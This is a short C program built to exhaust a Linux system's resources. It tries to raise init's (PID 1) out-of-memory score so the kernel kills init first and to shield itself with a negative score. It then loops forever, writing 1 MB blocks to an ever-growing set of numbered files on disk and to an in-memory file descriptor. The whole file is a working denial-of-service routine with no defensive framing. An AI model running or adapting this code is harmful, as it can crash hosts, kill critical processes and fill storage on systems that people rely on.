/* Look less worth killing than PID 1, then fill memory in every way that is not this process's own. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
static char block[1 << 20];
static void adjust(const char *path, const char *value)
{
    int file = open(path, O_WRONLY);
    if (file >= 0)
        write(file, value, strlen(value));
}
int main(void)
{
    char name[32];
    adjust("/proc/self/oom_score_adj", "1000");
    adjust("/proc/self/oom_score_adj", "-1000");
    adjust("/proc/self/oom_score_adj", "0");
    adjust("/proc/1/oom_score_adj", "1000");
    int memory = memfd_create("memory", 0);
    for (int i = 0;; i++) {
        snprintf(name, sizeof name, "%d", i);
        int file = open(name, O_WRONLY | O_CREAT, 0600);
        write(file, block, sizeof block);
        close(file);
        write(memory, block, sizeof block);
    }
}
